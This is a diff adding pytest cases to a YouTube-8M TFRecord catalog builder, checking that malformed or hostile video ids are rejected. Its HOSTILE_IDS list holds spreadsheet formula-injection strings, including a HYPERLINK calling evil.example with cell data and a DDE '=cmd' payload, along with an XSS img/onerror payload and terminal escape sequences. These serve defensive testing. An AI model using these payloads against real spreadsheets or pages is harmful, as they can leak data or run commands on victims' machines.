@@ -252,3 +252,42 @@ def test_a_wrong_frame_level_record_is_named(tmp_path: Path, record: bytes, reas
     shard = write_shard(tmp_path / "train00.tfrecord", [record])
     with pytest.raises(CatalogError, match=reason):
         build_catalog(tmp_path / "out", "youtube8m", [shard], visual=True)
+
+
+HOSTILE_IDS = [
+    b'=HYPERLINK("http://evil.example/?"&A1;"click")',
+    b"=cmd|'/Ccalc'!A0",
+    b"@SUM(1+9)",
+    b"+1",
+    b"<img/src=x/onerror=alert(1)>",
+    b"a\nb",
+    b"a\x1b[2J",
+    b"\tab",
+    "é".encode(),
+    b"a" * 65,
+    b"",
+    b"a b",
+]
+
+
+@pytest.mark.parametrize("video_id", HOSTILE_IDS)
+@pytest.mark.parametrize("key", ["id", "video_id"])
+def test_a_hostile_id_is_refused_where_it_enters(tmp_path: Path, video_id: bytes, key: str):
+    mean = [0.5] * 128
+    records = [
+        video_record(id=b"nR4i", labels=[1], mean_audio=mean),
+        video_record(**{key: video_id}, labels=[1], mean_audio=mean),
+    ]
+    shard = write_shard(tmp_path / "a.tfrecord", records)
+    with pytest.raises(CatalogError, match=r"a\.tfrecord: record 1 has (an odd video id|no id)"):
+        build_catalog(tmp_path / "out", "youtube8m", [shard])
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("video_id", [b"-4i_", b"123456789", b"D:/sounds/v1.mp4", b"-" * 64])
+def test_ids_of_every_known_form_are_kept(tmp_path: Path, video_id: bytes):
+    record = video_record(id=video_id, labels=[1], mean_audio=[0.5] * 128)
+    catalog = build_catalog(
+        tmp_path / "out", "youtube8m", [write_shard(tmp_path / "a.tfrecord", [record])]
+    )
+    assert catalog.clips["video_id"].tolist() == [video_id]
